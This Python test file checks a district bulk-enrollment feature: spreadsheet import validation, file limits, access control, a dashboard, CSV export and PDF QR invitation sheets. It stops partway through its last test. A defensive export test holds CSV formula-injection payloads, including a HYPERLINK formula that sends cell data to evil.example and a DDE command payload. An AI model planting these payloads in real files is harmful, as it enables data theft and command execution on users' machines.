"""Bulk enrollment for business improvement districts: real member spreadsheets
(tests/data/districts/) through the dry run and the commit, re-upload idempotence and
updates, every validation problem with its line and column, the file limits, the
dashboard and its injection-safe CSV export, the PDF sheet whose QR codes a real
decoder reads into working enrollment links, SMS invitations through the
notification dispatcher (outbox and Twilio), STOP, the rate limit, who sees what,
and the audit trail."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import cv2
import numpy as np
import openpyxl
import pypdf
import pytest
import sqlalchemy as sa
from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

from app.accounts.models import Role, User
from app.agencies.models import Membership
from app.audit.models import AuditEvent
from app.audit.service import verify_chain
from app.cameras.models import CameraStatus
from app.common.csv_cells import neutralise
from app.db import utcnow
from app.districts.models import DistrictImport, DistrictImportRow, DistrictMember, ImportStatus
from app.enrollment.models import CodeKind, EnrollmentCode
from app.extensions import db
from app.jobs import tick
from app.notifications import delivery, sms
from app.notifications.models import (
    DeliveryStatus,
    Notification,
    NotificationKind,
    SmsMessage,
    SmsOptOut,
)
from tests import factories
from tests.conftest import signed_in
from tests.peers.twilio_api import LocalTwilio

DATA = Path(__file__).resolve().parent / "data" / "districts"
BASE_URL = "http://porchlight.test"  # TestingConfig.PUBLIC_BASE_URL
GOOD = "good_utf8_bom_comma.csv"
GOOD_REFS = ["BID-001", "BID-002", "BID-003", "BID-004", "BID-005", "BID-006"]


# --- helpers -----------------------------------------------------------------------------------

def upload(client, name: str | None = None, *, data: bytes | None = None, filename: str | None = None):
    body = data if data is not None else (DATA / name).read_bytes()
    return client.post("/api/district/imports", data={"file": (io.BytesIO(body), filename or name or "members.csv")},
                       content_type="multipart/form-data")


def checked(client, name: str | None = None, **kw) -> dict:
    response = upload(client, name, **kw)
    assert response.status_code == 201, response.json
    return response.json


def commit(client, import_id: int):
    return client.post(f"/api/district/imports/{import_id}/commit")


def imported(client, name: str = GOOD) -> dict:
    report = checked(client, name)
    assert report["status"] == "validated", report["problems"]
    response = commit(client, report["id"])
    assert response.status_code == 200, response.json
    return response.json


def count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def counts() -> dict[str, int]:
    return {m.__name__: count(m) for m in (DistrictImport, DistrictImportRow, DistrictMember, EnrollmentCode,
                                            AuditEvent, Notification, SmsMessage)}


def district_events() -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action.like("district.%"))))


def members() -> dict[str, DistrictMember]:
    db.session.expire_all()
    return {m.member_ref: m for m in db.session.scalars(sa.select(DistrictMember))}


def audit(action: str) -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.seq)))


def error(response, status: int, code: str) -> str:
    assert response.status_code == status, response.get_data(as_text=True)
    body = response.json["error"]
    assert body["code"] == code and body["status"] == status and body["message"]
    return body["message"]


def by_line(report: dict) -> dict[int | None, list[dict]]:
    found: dict[int | None, list[dict]] = {}
    for problem in report["problems"]:
        found.setdefault(problem["line"], []).append(problem)
    return found


# --- the dry run and the commit ----------------------------------------------------------------

def test_dry_run_of_a_good_file_reports_and_saves_no_member(as_manager, world):
    before = counts()
    report = checked(as_manager, GOOD)
    assert report["status"] == "validated"
    assert report["format"] == "csv" and report["encoding"] == "utf-8-sig" and report["delimiter"] == ","
    assert report["rows_total"] == 6 and report["rows_valid"] == 6
    assert report["problems"] == [] and report["problems_total"] == 0
    assert report["summary"] == {"new": 6, "updated": 0, "unchanged": 0}
    assert report["filename"] == GOOD and report["result"] is None and report["committed_at"] is None
    after = counts()
    assert after["DistrictMember"] == before["DistrictMember"] == 0
    assert after["EnrollmentCode"] == before["EnrollmentCode"]
    assert after["DistrictImportRow"] == 6  # staged for the commit, nowhere else
    assert as_manager.get(f"/api/district/imports/{report['id']}").json == report
    (event,) = audit("district.import_checked")
    assert event.target_type == "district_import" and event.target_id == str(report["id"])
    assert event.actor_id == world.manager.id and event.agency_id == world.agency.id
    assert event.details["status"] == "validated" and event.details["rows_total"] == 6
    assert len(event.details["sha256"]) == 64


def test_commit_creates_members_each_with_a_single_use_code_of_the_district(as_manager, world):
    report = checked(as_manager, GOOD)
    response = commit(as_manager, report["id"])
    assert response.status_code == 200, response.json
    assert response.json["created"] == 6 and response.json["updated"] == 0 and response.json["unchanged"] == 0
    found = members()
    assert sorted(found) == GOOD_REFS
    joe = found["BID-001"]
    assert joe.business_name == "Joe's Bakery" and joe.contact_name == "Joe Rivera"
    assert joe.phone == "+14145550101" and joe.email == "joe@joesbakery.example"
    assert joe.address == "101 W Wisconsin Ave, Milwaukee"
    assert (joe.latitude, joe.longitude, joe.cameras_expected) == (43.0389, -87.9065, 2)
    assert found["BID-002"].phone == "+14145550102" and found["BID-003"].phone == "+14145550103"
    assert found["BID-003"].business_name == "Café Zoë" and found["BID-003"].email is None
    assert found["BID-004"].phone is None and found["BID-005"].cameras_expected is None
    assert found["BID-005"].business_name == "Riverwalk Deli, LLC"
    assert found["BID-006"].email == "tom@hardware.example"  # e-mail addresses are stored lower-cased
    code_ids = {m.enrollment_code_id for m in found.values()}
    assert None not in code_ids and len(code_ids) == 6
    for code in db.session.scalars(sa.select(EnrollmentCode).where(EnrollmentCode.id.in_(code_ids))):
        assert code.district_id == world.district.id and code.agency_id == world.agency.id
        assert code.kind == CodeKind.SINGLE and code.max_uses == 1 and code.use_count == 0
        assert code.status(utcnow()) == "active" and code.created_by_id == world.manager.id
    record = as_manager.get(f"/api/district/imports/{report['id']}").json
    assert record["status"] == "committed" and record["committed_at"]
    assert record["result"] == {"created": 6, "updated": 0, "unchanged": 0}
    assert count(DistrictImportRow) == 0  # staged rows go with the commit
    (event,) = audit("district.import_committed")
    assert event.details["created"] == 6 and event.details["codes_issued"] == 6
    assert event.target_id == str(report["id"]) and event.actor_id == world.manager.id
    assert verify_chain().ok


def test_committing_twice_answers_the_same_result_and_changes_nothing(as_manager):
    report = checked(as_manager, GOOD)
    first = commit(as_manager, report["id"])
    before = counts()
    second = commit(as_manager, report["id"])
    assert second.status_code == 200 and second.json == first.json
    assert counts() == before


def test_uploading_the_same_file_again_creates_nothing(as_manager):
    imported(as_manager, GOOD)
    codes_before = {ref: m.enrollment_code_id for ref, m in members().items()}
    report = checked(as_manager, GOOD)
    assert report["status"] == "validated"
    assert report["summary"] == {"new": 0, "updated": 0, "unchanged": 6}
    before = counts()
    result = commit(as_manager, report["id"]).json
    assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 6)
    after = counts()
    assert after["DistrictMember"] == before["DistrictMember"] == 6
    assert after["EnrollmentCode"] == before["EnrollmentCode"]
    assert {ref: m.enrollment_code_id for ref, m in members().items()} == codes_before


def test_a_changed_row_updates_its_member_matched_by_reference_phone_or_email(as_manager):
    imported(as_manager, GOOD)
    before = members()
    ids = {ref: m.id for ref, m in before.items()}
    codes_before = {m.id: m.enrollment_code_id for m in before.values()}
    report = checked(as_manager, "good_updated.csv")
    # BID-002 by reference (contact changed); BID-104 by e-mail and BID-106 by phone (new references);
    # BID-007 is new.
    assert report["summary"] == {"new": 1, "updated": 3, "unchanged": 3}
    result = commit(as_manager, report["id"]).json
    assert (result["created"], result["updated"], result["unchanged"]) == (1, 3, 3)
    after = members()
    assert sorted(after) == ["BID-001", "BID-002", "BID-003", "BID-005", "BID-007", "BID-104", "BID-106"]
    assert after["BID-002"].id == ids["BID-002"] and after["BID-002"].contact_name == "Ann Lee-Smith"
    assert after["BID-104"].id == ids["BID-004"]
    assert after["BID-106"].id == ids["BID-006"] and after["BID-106"].business_name == "Lakeview Hardware & Paint"
    assert after["BID-106"].cameras_expected == 5
    for member in after.values():
        if member.id in codes_before:
            assert member.enrollment_code_id == codes_before[member.id]  # an update keeps the member's code
    assert after["BID-007"].enrollment_code_id not in codes_before.values()


def test_semicolon_separated_windows_1252_file_with_accents(as_manager):
    report = checked(as_manager, "semicolon_windows1252.csv")
    assert report["status"] == "validated", report["problems"]
    assert report["encoding"] == "cp1252" and report["delimiter"] == ";"
    assert report["rows_total"] == 4 and report["ignored_columns"] == []
    commit(as_manager, report["id"])
    found = members()
    assert found["CW-10"].business_name == "Café Müller" and found["CW-10"].contact_name == "José Núñez"
    assert (found["CW-10"].latitude, found["CW-10"].longitude) == (43.045, -87.914)  # decimal commas
    assert found["CW-11"].business_name == "Crêperie Bretonne" and found["CW-11"].phone == "+14145550111"
    assert found["CW-12"].contact_name == "Ñandú García" and found["CW-12"].address == "Plaza; Suite 4"
    assert found["CW-13"].business_name == "Bäckerei Weiß — €5 Brötchen"


def test_tab_separated_file(as_manager):
    report = checked(as_manager, "tab_separated.tsv")
    assert report["status"] == "validated", report["problems"]
    assert report["delimiter"] == "\t" and report["rows_total"] == 3
    commit(as_manager, report["id"])
    assert members()["T-2"].business_name == "Smith, Jones & Co"


def test_xlsx_workbook_first_sheet(as_manager):
    report = checked(as_manager, "members.xlsx")
    assert report["status"] == "validated", report["problems"]
    assert report["format"] == "xlsx" and report["encoding"] is None and report["rows_total"] == 4
    commit(as_manager, report["id"])
    found = members()
    assert sorted(found) == ["4", "X-1", "X-2", "X-3"]
    assert found["X-1"].phone == "+14145550401"  # a number cell, not "4145550401.0"
    assert found["4"].phone == "+14145550404" and found["4"].email == "kai@bikes.example"
    assert found["4"].cameras_expected == 3 and found["X-1"].latitude == 43.025


def test_xlsx_problems_name_the_spreadsheet_row(as_manager):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([None])  # the header may start lower down
    sheet.append(["member_ref", "business_name", "contact_name", "Mobile"])
    sheet.append(["A", "Shop A", "Ann", "+14145550501"])
    sheet.append([])
    sheet.append(["B", "Shop B", "Bob", "not a phone"])
    body = io.BytesIO()
    workbook.save(body)
    report = checked(as_manager, data=body.getvalue(), filename="bad.xlsx")
    assert report["status"] == "rejected" and report["rows_total"] == 2 and report["rows_valid"] == 1
    (problem,) = report["problems"]
    assert problem["line"] == 5 and problem["column"] == "Mobile" and "“not a phone” is not valid" in problem["problem"]


# --- problems ----------------------------------------------------------------------------------

EXPECTED_PROBLEMS = {
    # line: [(column, words the sentence holds)]
    3: [("phone", "The mobile number “12345” is not valid")],
    4: [("email", "The e-mail address “bob@@mail” is not valid")],
    5: [("member_ref", "The member reference “P-4” is also on line 6")],
    6: [("member_ref", "The member reference “P-4” is also on line 5")],
    7: [("latitude", "The latitude 95.0 is out of range")],
    8: [("longitude", "A latitude is given without a longitude")],
    9: [("cameras", "cannot be negative")],
    10: [("business_name", "The business name is empty")],
    11: [("phone", "Neither a mobile number nor an e-mail address")],
    12: [("phone", "The mobile number “+14145550399” is also on line 15")],
    13: [("cameras", "The number of cameras “two” is not a whole number")],
    14: [("longitude", "The longitude 200 is out of range")],
    15: [("phone", "The mobile number “+14145550399” is also on line 12")],
    16: [("email", "The e-mail address “same@mail.example” is also on line 17")],
    17: [("email", "The e-mail address “same@mail.example” is also on line 16")],
}


def test_every_problem_is_reported_with_its_line_and_column_and_nothing_is_saved(as_manager):
    before = counts()
    report = checked(as_manager, "problems.csv")
    assert report["status"] == "rejected"
    assert report["rows_total"] == 16 and report["rows_valid"] == 1  # only line 2 is clean
    assert report["summary"] == {"new": 0, "updated": 0, "unchanged": 0}
    lines = by_line(report)
    assert set(lines) == set(EXPECTED_PROBLEMS), lines
    for line, expected in EXPECTED_PROBLEMS.items():
        got = [(p["column"], p["problem"]) for p in lines[line]]
        assert len(got) == len(expected), (line, got)
        for (column, words), (got_column, sentence) in zip(expected, got, strict=True):
            assert got_column == column and words in sentence, (line, got_column, sentence)
            assert sentence.endswith(".") and sentence[0].isupper()
    assert report["problems_total"] == len(report["problems"]) == 15
    assert [p["line"] for p in report["problems"]] == sorted(p["line"] for p in report["problems"])
    after = counts()
    for table in ("DistrictMember", "EnrollmentCode", "DistrictImportRow"):
        assert after[table] == before[table], table
    message = error(commit(as_manager, report["id"]), 409, "import_rejected")
    assert "15 problems" in message
    assert counts()["DistrictMember"] == 0
    (event,) = audit("district.import_checked")
    assert event.details["status"] == "rejected" and event.details["problems"] == 15


def test_missing_required_columns_are_named_in_one_message(as_manager):
    report = checked(as_manager, "missing_columns.csv")
    assert report["status"] == "rejected" and report["rows_total"] == 2 and report["rows_valid"] == 0
    (problem,) = report["problems"]
    assert problem["line"] == 1 and problem["column"] is None
    text = problem["problem"]
    assert text.startswith("Required columns are missing:")
    for name in ("member reference (member_ref)", "contact name (contact_name)",
                 "a mobile number (phone) or an e-mail (email) column"):
        assert name in text
    assert "business name" not in text  # "Business" is an accepted name for it
    assert report["ignored_columns"] == ["Notes"]


def test_header_names_are_matched_whatever_their_case_spacing_and_aliases(as_manager):
    text = ("  MEMBER_REF ;Company Name;Contact Person;Cell Phone;Email Address;Notes\n"
            "R-1;Shop;Pat;414 555 0601;pat@shop.example;ignored\n")
    report = checked(as_manager, data=text.encode(), filename="aliases.csv")
    assert report["status"] == "validated", report["problems"]
    assert report["ignored_columns"] == ["Notes"]


def test_a_repeated_column_is_a_problem(as_manager):
    text = "member_ref,business_name,contact_name,phone,Mobile\nR-1,Shop,Pat,+14145550601,+14145550602\n"
    report = checked(as_manager, data=text.encode())
    assert report["status"] == "rejected"
    (problem,) = report["problems"]
    assert problem["line"] == 1 and problem["column"] == "Mobile" and "keep only one" in problem["problem"]


def test_rows_matching_the_same_existing_member_are_both_named(as_manager):
    imported(as_manager, GOOD)
    # Line 2 is BID-001 by reference; line 3's new reference carries BID-001's e-mail address.
    text = ("member_ref,business_name,contact_name,email\n"
            "BID-001,Joe's Bakery,Joe Rivera,joe@joesbakery.example\n"
            "NEW-1,Joe's Second Bakery,Joe Rivera,JOE@joesbakery.example\n")
    report = checked(as_manager, data=text.encode())
    # The same address twice in the file, and two rows that would update one member.
    lines = by_line(report)
    assert report["status"] == "rejected" and set(lines) == {2, 3}
    assert any("all match the existing member “BID-001”" in p["problem"] for p in lines[3])


# --- file limits and refusals --------------------------------------------------------------------

def _nothing_written(before: dict[str, int]) -> None:
    assert counts() == before


def test_a_file_over_the_size_limit_is_refused_with_413_before_it_is_read(app, as_manager):
    app.config["DISTRICT_IMPORT_MAX_BYTES"] = 2000
    before = counts()
    # Content-Length alone tells: refused before the body is parsed.
    big = (DATA / GOOD).read_bytes() + b"X-9,Filler,Someone,,filler@example.org,,,,\r\n" * 3000
    message = error(upload(as_manager, data=big), 413, "file_too_large")
    assert "larger than 2,000 bytes" in message
    # Just over the limit (the multipart framing allowance lets the body through): the file's own size tells.
    message = error(upload(as_manager, data=big[:2500]), 413, "file_too_large")
    _nothing_written(before)
    app.config["DISTRICT_IMPORT_MAX_BYTES"] = 20 * 1024 * 1024
    assert upload(as_manager, GOOD).status_code == 201


@pytest.mark.one_database
def test_a_body_without_content_length_is_cut_off_at_the_limit(app, as_manager):
    app.config["DISTRICT_IMPORT_MAX_BYTES"] = 1000
    boundary = "porchlightboundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n").encode() + b"a,b,c\r\n" * 20_000 + f"\r\n--{boundary}--\r\n".encode()
    # As a chunked request arrives: no Content-Length, the server reads until the body ends.
    environ = EnvironBuilder("/api/district/imports", method="POST", input_stream=io.BytesIO(body),
                             content_type=f"multipart/form-data; boundary={boundary}").get_environ()
    del environ["CONTENT_LENGTH"]
    environ.update({"wsgi.input_terminated": True, "HTTP_TRANSFER_ENCODING": "chunked"})
    before = counts()
    error(as_manager.open(Request(environ)), 413, "file_too_large")
    _nothing_written(before)


def test_too_many_rows_are_refused_with_422_and_nothing_is_kept(app, as_manager):
    app.config["DISTRICT_IMPORT_MAX_ROWS"] = 5
    before = counts()
    message = error(upload(as_manager, GOOD), 422, "too_many_rows")
    assert "more than 5 member rows" in message
    _nothing_written(before)
    app.config["DISTRICT_IMPORT_MAX_ROWS"] = 6
    assert checked(as_manager, GOOD)["status"] == "validated"


@pytest.mark.parametrize("name, code, words", [
    ("empty.csv", "empty_file", "The file is empty"),
    ("header_only.csv", "no_rows", "no member rows"),
])
def test_empty_files_are_refused_with_422(as_manager, name, code, words):
    before = counts()
    assert words in error(upload(as_manager, name), 422, code)
    _nothing_written(before)


@pytest.mark.one_database
@pytest.mark.parametrize("name, data, words", [
    ("not_a_spreadsheet.png", None, "PNG image"),
    ("random_binary.bin", None, "not a text spreadsheet"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, ".xls"),
    ("report.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
    ("utf16.csv", "member_ref,business_name\n".encode("utf-16"), "UTF-16"),
    ("archive.xlsx", None, "not an Excel .xlsx workbook"),
    ("broken.xlsx", b"PK\x03\x04" + b"\x00" * 100, "cannot be opened"),
])
def test_files_that_are_not_csv_or_xlsx_are_refused_with_415(as_manager, name, data, words):
    if name == "archive.xlsx":
        buffer = io.BytesIO()
        import zipfile

        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("word/document.xml", "<w:document/>")
        data = buffer.getvalue()
    before = counts()
    message = error(upload(as_manager, None if data is not None else name, data=data, filename=name), 415,
                    "unsupported_file_type")
    assert words in message and ("CSV" in message)
    _nothing_written(before)


@pytest.mark.one_database
def test_an_upload_without_a_file_is_a_422_naming_the_field(as_manager):
    response = as_manager.post("/api/district/imports", data={"other": "x"}, content_type="multipart/form-data")
    assert response.status_code == 422 and "file" in response.json["error"]["fields"]


def test_an_import_not_committed_in_time_expires(as_manager):
    report = checked(as_manager, GOOD)
    db.session.get(DistrictImport, report["id"]).expires_at = utcnow() - timedelta(minutes=1)
    db.session.commit()
    assert tick()["expired_imports"] == 1
    assert count(DistrictImportRow) == 0
    assert as_manager.get(f"/api/district/imports/{report['id']}").json["status"] == "expired"
    error(commit(as_manager, report["id"]), 410, "import_expired")
    assert count(DistrictMember) == 0


def test_older_pending_imports_beyond_the_limit_expire(app, as_manager):
    app.config["DISTRICT_IMPORT_MAX_PENDING"] = 2
    first, second, third = (checked(as_manager, GOOD)["id"] for _ in range(3))
    statuses = {r.id: r.status for r in db.session.scalars(sa.select(DistrictImport))}
    assert statuses == {first: ImportStatus.EXPIRED, second: ImportStatus.VALIDATED, third: ImportStatus.VALIDATED}
    assert count(DistrictImportRow) == 12


# --- who sees what -----------------------------------------------------------------------------

DISTRICT_ROUTES = [("post", "/api/district/imports"), ("get", "/api/district/imports/{import_id}"),
                   ("post", "/api/district/imports/{import_id}/commit"), ("get", "/api/district/dashboard"),
                   ("get", "/api/district/members"), ("get", "/api/district/members.csv"),
                   ("post", "/api/district/invitations/sms"),
                   ("get", "/api/district/invitations.pdf?member_ids={member_id}")]


def test_only_district_managers_use_the_district_api(app, world, client, as_manager):
    # The district has members and an import waiting for its commit: none of it is reachable.
    imported(as_manager, GOOD)
    pending = checked(as_manager, "good_updated.csv")
    member_id = next(iter(members().values())).id
    routes = [(method, path.format(import_id=pending["id"], member_id=member_id)) for method, path in DISTRICT_ROUTES]
    body = {"member_ids": [member_id]}
    before = {**counts(), "AuditEvent": len(district_events())}
    for user in (world.owner, world.officer, world.supervisor):
        other = signed_in(app, user)
        for method, path in routes:
            response = getattr(other, method)(path, json=body if method == "post" else None)
            error(response, 403, "forbidden")
    for method, path in routes:
        error(getattr(client, method)(path, json=body if method == "post" else None), 401, "unauthenticated")
    # Nothing imported, committed, invited, printed or exported (sign-ins are audited, the rest is not).
    assert {**counts(), "AuditEvent": len(district_events())} == before
    assert db.session.get(DistrictImport, pending["id"]).status == ImportStatus.VALIDATED


def test_a_manager_of_another_district_sees_nothing_of_this_one(app, world, as_manager):
    imported(as_manager, GOOD)
    pending = checked(as_manager, GOOD)
    ids = [m.id for m in members().values()]
    other_district = factories.district(world.agency, "Harbor District")
    other_manager = factories.user(Role.MANAGER, district_id=other_district.id)
    db.session.commit()
    other = signed_in(app, other_manager)
    error(other.get(f"/api/district/imports/{pending['id']}"), 404, "not_found")
    error(other.post(f"/api/district/imports/{pending['id']}/commit"), 404, "not_found")
    assert other.get("/api/district/members").json == {"members": [], "total": 0, "limit": 100, "offset": 0}
    dashboard = other.get("/api/district/dashboard").json
    assert dashboard["district"]["name"] == "Harbor District" and dashboard["members"] == 0
    rows = list(csv.reader(io.StringIO(other.get("/api/district/members.csv").get_data(as_text=True))))
    assert len(rows) == 1  # the header only
    error(other.post("/api/district/invitations/sms", json={"member_ids": ids[:1]}), 404, "not_found")
    error(other.get(f"/api/district/invitations.pdf?member_ids={ids[0]}"), 404, "not_found")
    pdf = other.get("/api/district/invitations.pdf")
    assert pdf.status_code == 200 and _qr_links(pdf.data) == []
    assert count(Notification) == 0
    assert db.session.get(DistrictImport, pending["id"]).status == ImportStatus.VALIDATED


def test_district_managers_never_see_requests_asks_or_clips(app, as_manager):
    spec = app.test_client().get("/api/openapi.json").json
    checked_paths = 0
    for path, operations in spec["paths"].items():
        if not re.search(r"/(requests|asks|clips|holds|clip-accesses|uploads)\b", path):
            continue
        for method in operations:
            if method not in ("get", "post", "patch", "delete"):
                continue
            url = re.sub(r"\{[^}]+\}", "1", path)
            response = getattr(as_manager, method)(url, json={} if method in ("post", "patch") else None)
            if path.startswith("/api/uploads"):
                # tus: no session role, only the owner of an approved ask (or a signed link) may upload.
                assert response.status_code in (401, 403, 404, 412), (method, path, response.status_code)
            else:
                assert response.status_code == 403, (method, path, response.status_code)
            checked_paths += 1
    assert checked_paths >= 10


# --- dashboard and export ----------------------------------------------------------------------

def test_members_page_and_dashboard_follow_enrollment_and_cameras(app, world, as_manager):
    imported(as_manager, GOOD)
    page = as_manager.get("/api/district/members?limit=2&offset=1").json
    assert page["total"] == 6 and page["limit"] == 2 and page["offset"] == 1
    assert [m["business_name"] for m in page["members"]] == ["Café Zoë", "Joe's Bakery"]
    member = page["members"][1]
    assert member["status"] == "invited" and member["enrolled_at"] is None
    assert re.fullmatch(r"[A-Z2-9]{4}-[A-Z2-9]{4}", member["code_display"]) and member["code_status"] == "active"
    assert member["phone"] == "+14145550101" and member["cameras_expected"] == 2
    # Joe enrolls with his code and registers two cameras in the district, one paused.
    code = member["code_display"]
    owner_client = app.test_client()
    signup = owner_client.post("/api/auth/signup", json={
        "email": "joe@joesbakery.example", "password": "joes-password-1", "enrollment_code": code})
    assert signup.status_code == 201, signup.json
    owner = db.session.scalar(sa.select(User).where(User.email == "joe@joesbakery.example"))
    factories.camera(owner, district_id=world.district.id)
    factories.camera(owner, district_id=world.district.id, status=CameraStatus.PAUSED)
    factories.camera(owner)  # outside the district: not counted
    db.session.commit()
    joe = as_manager.get("/api/district/members?q=joe's").json["members"]
    assert len(joe) == 1 and joe[0]["status"] == "enrolled" and joe[0]["enrolled_at"]
    assert joe[0]["cameras_registered"] == 2 and joe[0]["cameras_active"] == 1 and joe[0]["code_status"] == "used"
    enrolled = as_manager.get("/api/district/members?status=enrolled").json
    assert enrolled["total"] == 1
    assert as_manager.get("/api/district/members?status=invited").json["total"] == 5
    dashboard = as_manager.get("/api/district/dashboard").json
    assert dashboard == {"district": {"id": world.district.id, "name": "Downtown BID"}, "members": 6,
                         "invited": 0, "enrolled": 1, "not_enrolled": 5, "sms_sent": 0, "cameras_expected": 10,
                         "cameras_registered": 2, "cameras_active": 1}
    assert as_manager.get("/api/district/members?limit=0").status_code == 422
    assert as_manager.get("/api/district/members?status=bogus").status_code == 422


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0",
              "=1+1;Ltd", "Safe Shop"]


def test_the_csv_export_neutralises_formulas_and_round_trips(as_manager, world):
    rows = [["member_ref", "business_name", "contact_name", "phone", "email", "address"]]
    for n, name in enumerate(INJECTIONS):
        rows.append([f"-R{n}", name, f"=Contact {n}", f"+1 414 555 07{n:02d}", f"m{n}@shop.example",
                     "@Main St" if n == 0 else f"{n} Main St"])
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    report = checked(as_manager, data=text.getvalue().encode())
    assert report["status"] == "validated", report["problems"]
    commit(as_manager, report["id"])

    response = as_manager.get("/api/district/members.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    header, data = table[0], table[1:]
    assert header[:6] == rows[0][:3] + ["phone", "email", "address"] and len(data) == len(INJECTIONS)
    for row in data:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[1] for row in data}
    assert "'" + INJECTIONS[0] in names and "'+SUM(1+1)" in names and "'-2+3" in names
    assert "'@cmd|' /C calc'!A0" in names and "Safe Shop" in names
    assert all(row[0].startswith("'-R") and row[2].startswith("'=Contact") for row in data)
    assert all(row[3].startswith("'+1414555") for row in data)
    assert any(row[5] == "'@Main St" for row in data)
    (event,) = audit("district.members_exported")
    assert event.details["rows"] == len(INJECTIONS) and event.actor_id == world.manager.id
    # The export imports back unchanged: the guard quote is taken off again.
    again = checked(as_manager, data=body.encode(), filename="export.csv")
    assert again["status"] == "validated", again["problems"]
    assert again["summary"] == {"new": 0, "updated": 0, "unchanged": len(INJECTIONS)}


def test_neutralise_covers_tab_and_carriage_return():
    assert neutralise("\tcmd") == "'\tcmd" and neutralise("\r=1") == "'\r=1"
    assert neutralise("plain") == "plain" and neutralise(None) == "" and neutralise(-87.9) == "'-87.9"


# --- the printable sheet -----------------------------------------------------------------------

def _decode(pixels: np.ndarray) -> str:
    # OpenCV's classic detector misses about one clean code in 500; its ArUco-based
    # detector reads those (and missed none of 1,500 sample codes). Either is a real decoder.
    for detector in (cv2.QRCodeDetector(), cv2.QRCodeDetectorAruco()):
        text, _, _ = detector.detectAndDecode(pixels)
        if text:
            return text
    return ""


def _qr_links(pdf_bytes: bytes) -> list[str]:
    """Every QR code in the PDF's images, decoded by OpenCV."""
    links = []
    for page in pypdf.PdfReader(io.BytesIO(pdf_bytes)).pages:
        for image in page.images:
            text = _decode(np.array(image.image.convert("L")))
            assert text, f"an image on the sheet is not a readable QR code ({image.name})"
            links.append(text)
    return links


def _pdf_text(pdf_bytes: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf_bytes)).pages)


def test_the_pdf_sheet_qr_codes_are_working_enrollment_links(app, world, as_manager):
    imported(as_manager, GOOD)
    response = as_manager.get("/api/district/invitations.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["X-Members-Total"] == "6"
    links = _qr_links(response.data)
    assert len(links) == 6 and len(pypdf.PdfReader(io.BytesIO(response.data)).pages) == 1
    found = members()
    codes = {db.session.get(EnrollmentCode, m.enrollment_code_id).code: m for m in found.values()}
    assert sorted(links) == sorted(f"{BASE_URL}/e/{code}" for code in codes)
    text = _pdf_text(response.data)
    for code, member in codes.items():
        assert f"{code[:4]}-{code[4:]}" in text and member.business_name in text and member.contact_name in text
    # Follow one link as a phone would: the page, the lookup, the sign-up.
    link = links[0]
    code = link.rsplit("/e/", 1)[1]
    path = link.removeprefix(BASE_URL)
    visitor = app.test_client()
    with visitor.get(path) as page:
        assert page.status_code == 200 and b"<html" in page.data.lower()
    lookup = visitor.get(f"/api/enrollment/lookup/{code}")
    assert lookup.status_code == 200, lookup.json
    assert lookup.json["district"]["name"] == "Downtown BID" and lookup.json["agency"]["name"] == world.agency.name
    owner = factories.user(Role.OWNER, email="new.owner@example.org")
    db.session.commit()
    redeemed = signed_in(app, owner).post("/api/enrollment/redeem", json={"code": code})
    assert redeemed.status_code == 200, redeemed.json
    membership = db.session.scalar(sa.select(Membership).where(Membership.owner_id == owner.id))
    assert membership.district_id == world.district.id and membership.agency_id == world.agency.id
    db.session.expire_all()
    member = codes[code]
    member = db.session.get(DistrictMember, member.id)
    assert member.owner_id == owner.id and member.enrolled_at is not None
    # Printed members count as invited; the enrolled one leaves the default sheet.
    assert as_manager.get("/api/district/dashboard").json["invited"] == 6
    again = as_manager.get("/api/district/invitations.pdf")
    assert again.headers["X-Members-Total"] == "5" and len(_qr_links(again.data)) == 5
    events = audit("district.invitation_sheet_printed")
    assert len(events) == 2 and events[0].details["members"] == 6


def test_the_pdf_sheet_for_chosen_members_and_pages(app, as_manager):
    imported(as_manager, GOOD)
    found = members()
    chosen = [found["BID-002"].id, found["BID-005"].id]
    response = as_manager.get(f"/api/district/invitations.pdf?member_ids={chosen[0]},{chosen[1]}")
    assert response.status_code == 200 and len(_qr_links(response.data)) == 2
    text = _pdf_text(response.data)
    assert "Third Ward Books" in text and "Riverwalk Deli" in text and "Joe's Bakery" not in text
    app.config["DISTRICT_PDF_MAX_MEMBERS"] = 4
    first = as_manager.get("/api/district/invitations.pdf")
    assert first.headers["X-Members-Total"] == "6" and len(_qr_links(first.data)) == 4
    rest = as_manager.get("/api/district/invitations.pdf?offset=4")
    assert len(_qr_links(rest.data)) == 2
    assert as_manager.get("/api/district/invitations.pdf?limit=5").status_code == 422
    assert as_manager.get("/api/district/invitations.pdf?member_ids=x").status_code == 422


def test_an_expired_code_is_renewed_before_it_is_printed(as_manager):
    imported(as_manager, GOOD)
    member = members()["BID-001"]
    old = db.session.get(EnrollmentCode, member.enrollment_code_id)
    old.expires_at = utcnow() - timedelta(days=1)
    db.session.commit()
    links = _qr_links(as_manager.get(f"/api/district/invitations.pdf?member_ids={member.id}").data)
    member = members()["BID-001"]
    fresh = db.session.get(EnrollmentCode, member.enrollment_code_id)
